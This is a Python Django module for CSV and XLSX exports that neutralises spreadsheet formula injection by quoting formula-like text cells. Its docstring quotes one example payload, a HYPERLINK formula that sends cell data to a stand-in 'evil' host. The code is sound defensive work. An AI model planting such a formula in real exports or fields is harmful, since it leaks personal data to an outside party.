"""CSV and XLSX exports: every export of the programme builds its file here, so no cell can run as a formula.

A spreadsheet treats a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return as a formula
(CSV/formula injection: `=HYPERLINK("http://evil/?"&A1)` in an applicant's name would send the sheet's data
away when an officer opens it). Here:
- in CSV such a text cell is written with a leading apostrophe (`'=...`), which spreadsheets show as text;
- in XLSX such a cell is stored as a string with Excel's "quote prefix" style: it shows exactly what was
  typed and never becomes a formula, even when edited.
Numbers (`Decimal`, `int`) are left as numbers in XLSX (a negative amount stays a number, and the sheet's
own locale shows it); in CSV, which has no types, a `Decimal` is written by common.money in the reader's
language (`4 000,00` / `4,000.00`), the shape the pages, emails and letters give the same figure.

    from common.exports import csv_response, xlsx_response

    return csv_response("ranking.csv", header, rows)
    return xlsx_response("ranking.xlsx", header, rows, sheet_title=_("Ranking"))

Views that export personal data also ask for a reason and audit it (applications.audit).
"""

import csv
import io
from collections.abc import Iterable, Sequence
from decimal import Decimal

from django.http import HttpResponse
from openpyxl import Workbook
from openpyxl.cell.cell import Cell

from common.money import format_number

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV = "text/csv; charset=utf-8"


def is_formula_like(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_cell(value):
    """The value as a CSV cell that a spreadsheet shows as text: None is empty, formula-like text is quoted."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "yes" if value else "no"
    if isinstance(value, Decimal):
        return format_number(value, places=max(2, -value.as_tuple().exponent) if value.is_finite() else 2)
    value = str(value) if not isinstance(value, (int, float)) and not hasattr(value, "as_tuple") else value
    return f"'{value}" if is_formula_like(value) else value


def csv_bytes(header: Sequence, rows: Iterable[Sequence]) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow([csv_cell(value) for value in header])
    for row in rows:
        writer.writerow([csv_cell(value) for value in row])
    # A byte-order mark, so that spreadsheets read the Ukrainian text as UTF-8.
    return "\ufeff".encode() + buffer.getvalue().encode()


def _xlsx_cell(sheet, value):
    if value is not None and not isinstance(value, (int, float)) and not hasattr(value, "as_tuple"):
        value = str(value)
    cell = Cell(sheet, value=value)
    if is_formula_like(value):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell


def sheet_title(title) -> str:
    """Excel refuses sheet names over 31 characters or with any of : \\ / ? * [ ]."""
    title = str(title)
    for character in ":\\/?*[]":
        title = title.replace(character, " ")
    return title[:31] or "Sheet"


def xlsx_sheets_bytes(sheets: Iterable[tuple[str, Sequence, Iterable[Sequence]]]) -> bytes:
    """A workbook of several sheets, each `(title, header, rows)`, the header row frozen."""
    workbook = Workbook()
    workbook.remove(workbook.active)
    for title, header, rows in sheets:
        sheet = workbook.create_sheet(title=sheet_title(title))
        for row in (header, *rows):
            sheet.append([_xlsx_cell(sheet, value) for value in row])
        sheet.freeze_panes = "A2"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def xlsx_bytes(header: Sequence, rows: Iterable[Sequence], *, sheet_title: str = "Sheet") -> bytes:
    return xlsx_sheets_bytes([(sheet_title, header, rows)])


def _attachment(content: bytes, content_type: str, filename: str) -> HttpResponse:
    response = HttpResponse(content, content_type=content_type)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response["Cache-Control"] = "private, no-store"
    return response


def csv_response(filename: str, header: Sequence, rows: Iterable[Sequence]) -> HttpResponse:
    return _attachment(csv_bytes(header, rows), CSV, filename)


def xlsx_response(filename: str, header: Sequence, rows: Iterable[Sequence], *, sheet_title: str = "Sheet"):
    return _attachment(xlsx_bytes(header, rows, sheet_title=sheet_title), XLSX, filename)
